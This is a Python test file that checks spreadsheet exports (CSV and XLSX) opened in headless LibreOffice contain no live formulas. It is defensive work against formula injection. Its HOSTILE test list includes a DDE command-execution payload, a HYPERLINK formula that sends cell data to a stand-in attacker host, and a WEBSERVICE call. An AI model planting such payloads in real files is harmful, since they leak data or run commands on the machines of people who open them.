"""What LibreOffice makes of our files: nothing to compute (security statement 39); `make office` asks for it."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import parse

from portal.core import spreadsheets as sp
from portal.core.spreadsheets import Sheet

pytestmark = pytest.mark.skipif(not os.environ.get("PORTAL_OFFICE"), reason="asked for by `make office`")

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
#: Comma, quotation mark, UTF-8, from the first line; formulas are evaluated where the version can be told to.
READING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
HOSTILE = (
    "=1+1", "+1+1", "-1+2", "@SUM(1;2)", "＝1+1", "＋1+1", "－1+2", "＠SUM(1;2)", " =1+1", "\u3000=1+1", "\t=1+1",
    "\r=1+1", '=HYPERLINK("http://evil.example/?"&A1;"x")', "=cmd|' /C calc'!A0", "=WEBSERVICE(A1)", '"=1+1"', "';=1+1",
    "{=1+1}", "of:=1+1", "贵州茅台\n=1+1", ",=1+1", '",=1+1', "'=1+1",
)  # fmt: skip


def opened(path: Path, *arguments: str) -> Element:
    """The file as LibreOffice holds it when it was opened."""
    office = shutil.which("soffice")
    assert office is not None, "LibreOffice is missing: apt-get install --no-install-recommends libreoffice-calc"
    profile = f"-env:UserInstallation={(path.parent / 'profile').as_uri()}"
    out = path.parent / "out"
    subprocess.run(
        [office, "--headless", profile, *arguments, "--convert-to", "fods", "--outdir", str(out), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return parse(out / f"{path.stem}.fods").getroot()


def formulas(root: Element) -> list[str]:
    found = [cell.get(f"{TABLE}formula") for cell in root.iter(f"{TABLE}table-cell")]
    return [formula for formula in found if formula]


def texts(root: Element) -> list[str]:
    """The texts of all cells that have one."""
    cells = root.iter(f"{TABLE}table-cell")
    found = ["\n".join("".join(part.itertext()) for part in cell.iter(f"{TEXT}p")) for cell in cells]
    return [text for text in found if text]


def test_a_raw_formula_is_one_there(tmp_path: Path) -> None:
    path = tmp_path / "raw.csv"
    path.write_text("a\r\n=1+1\r\n", encoding="utf-8-sig")
    assert formulas(opened(path, f"--infilter={READING}")) == ["of:=1+1"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_have_no_formula_there(kind: str, tmp_path: Path) -> None:
    path = tmp_path / f"export.{kind}"
    rows = [[text, "x"] for text in HOSTILE]
    if kind == "csv":
        sp.write_csv(path, ["a", "b"], rows)
        root = opened(path, f"--infilter={READING}")
    else:
        sp.write_xlsx(path, [Sheet("s", ["a", "b"], rows)])
        root = opened(path)
    assert formulas(root) == []
    found = texts(root)
    assert found.count("x") == len(HOSTILE)
    for text in ("=1+1", "=cmd|' /C calc'!A0", "＝1+1"):
        assert (f"'{text}" if kind == "csv" else text) in found
